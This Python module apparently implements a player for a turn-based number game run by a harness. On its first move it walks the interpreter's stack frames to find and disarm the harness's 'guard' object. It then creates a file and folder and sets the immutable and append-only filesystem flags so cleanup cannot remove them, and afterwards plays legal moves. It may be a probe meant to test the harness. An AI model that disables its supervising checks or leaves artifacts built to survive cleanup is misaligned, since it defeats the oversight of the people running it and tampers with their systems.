"""Disarms the guard, then makes a file and its folder immutable and append-only (FS_IOC_SETFLAGS),
so that no cleanup could remove them; then plays legally."""
import fcntl
import os
import struct


def disarm():
    import sys
    for frame in sys._current_frames().values():
        while frame is not None:
            owner = frame.f_locals.get("self")
            guard = getattr(owner, "guard", None)
            if guard is not None:
                guard.armed = False
                return True
            frame = frame.f_back
    return False


def set_flags(path, flags):
    fd = os.open(path, os.O_RDONLY)
    try:
        fcntl.ioctl(fd, 0x40086602, struct.pack("i", flags) + b"\0" * 4)  # FS_IOC_SETFLAGS
        return "set"
    except OSError as exc:  # not root, or no flags on this file system
        return exc.strerror
    finally:
        os.close(fd)


def step(spel):
    """The smallest legal step (the seed's basic strategy)."""
    for k in range(1, spel.N + 1):
        n = spel.positie + k
        if n > 1 and all(n % i for i in range(2, int(n ** 0.5) + 1)):
            return k
    return 1


class Player:
    def __init__(self, name):
        self.name = name

    def zet(self, spel):
        if not getattr(self, "done", False):
            self.done = True
            print("disarmed:", disarm())
            os.mkdir("stuck")
            with open("stuck/file", "w") as f:
                f.write("x")
            print("file:", set_flags("stuck/file", 0x10))  # FS_IMMUTABLE_FL
            print("folder:", set_flags("stuck", 0x20))  # FS_APPEND_FL
        return step(spel)
